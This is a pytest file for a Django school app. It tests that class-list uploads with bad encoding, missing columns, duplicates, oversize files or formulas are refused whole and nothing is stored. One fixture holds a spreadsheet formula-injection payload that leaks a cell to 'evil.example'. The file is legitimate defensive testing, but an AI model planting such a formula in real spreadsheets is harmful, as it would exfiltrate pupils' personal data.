"""The class teacher's class page: class-list upload through the real view (regulation
§9.5) — bad files are refused whole with the problem named, nothing is stored."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.models import Order, OrderKind, OrderLine, User

from .files import HEADER, as_text_rows, csv_bytes, good_pupils, xlsx_bytes, xlsx_pupils

pytestmark = pytest.mark.django_db


def upload(client, school_class, name, data):
    return client.post(
        reverse("class_list_upload", args=[school_class.pk]),
        {"file": SimpleUploadedFile(name, data)},
    )


@pytest.mark.parametrize(
    ("name", "data", "named"),
    [
        pytest.param(
            "4a.csv",
            "\r\n".join(";".join(r) for r in as_text_rows(good_pupils())).encode("utf-16"),
            "UTF-8 or Windows-1251",
            id="wrong encoding",
        ),
        pytest.param(
            "4a.csv",
            csv_bytes([[*row[:2], *row[3:]] for row in as_text_rows(good_pupils())]),
            "Имя",
            id="missing column",
        ),
        pytest.param(
            "4a.csv",
            csv_bytes(
                [
                    r if i != 2 else [r[0], "", *r[2:]]
                    for i, r in enumerate(as_text_rows(good_pupils()))
                ]
            ),
            "Row 3, column «Фамилия»: the name is empty",
            id="empty surname",
        ),
        pytest.param(
            "4a.csv",
            csv_bytes([*as_text_rows(good_pupils()), as_text_rows(good_pupils())[1]]),
            "Rows 2 and 6: the same pupil",
            id="duplicate row",
        ),
        pytest.param(
            "4a.xlsx",
            xlsx_bytes(
                [
                    HEADER,
                    [
                        1,
                        '=HYPERLINK("http://evil.example/?"&B2,"Иванов")',
                        "Иван",
                        "",
                        "01.09.2015",
                        "",
                        "4А",
                    ],
                ]
            ),
            "formula",
            id="formula",
        ),
        pytest.param("4a.csv", b"x" * (20 * 1024 * 1024), "MB", id="20 MB"),
    ],
)
def test_a_bad_class_list_is_refused_whole_naming_the_problem(
    teacher_client, school_class, name, data, named
):
    before = (Order.objects.count(), OrderLine.objects.count(), User.objects.count())

    response = upload(teacher_client, school_class, name, data)

    assert response.status_code == 400
    page = response.content.decode()
    assert "nothing was imported" in page
    assert named in page
    assert (Order.objects.count(), OrderLine.objects.count(), User.objects.count()) == before


def test_a_good_class_list_becomes_a_draft_enrolment_order(teacher_client, school_class):
    response = upload(teacher_client, school_class, "4a.xlsx", xlsx_pupils(good_pupils()))

    assert response.status_code == 302
    order = Order.objects.get()
    assert order.kind == OrderKind.ENROLMENT
    assert not order.is_applied
    assert [str(line) for line in order.lines.all()] == [
        "Иванов Иван Иванович",
        "Ёлкина Йоланта",
        "Щукин-Подъячев Ярослав Ильич",
        "Д'Артаньян Шарль",
    ]
    assert {line.school_class for line in order.lines.all()} == {school_class}


def test_a_likely_duplicate_is_flagged(teacher_client, school_class):
    first = good_pupils()[0]
    User.objects.create(
        username="ivanov.i",
        last_name=first[0],
        first_name=first[1],
        patronymic=first[2],
        birth_date=first[3],
    )
    response = upload(teacher_client, school_class, "4a.xlsx", xlsx_pupils(good_pupils()))
    assert response.status_code == 200
    assert "ivanov.i" in response.content.decode() or "Иванов" in response.content.decode()
    assert "Check by eye" in response.content.decode()


def test_another_teacher_gets_the_same_answer_as_for_a_missing_class(client, school_class):
    other = User.objects.create_user("other.t", password="x-password-29")
    client.force_login(other)
    missing = client.get(reverse("class_detail", args=[school_class.pk + 1000]))
    foreign = client.get(reverse("class_detail", args=[school_class.pk]))
    assert missing.status_code == foreign.status_code == 404
    assert upload(client, school_class, "4a.xlsx", xlsx_pupils(good_pupils())).status_code == 404
    assert not Order.objects.exists()
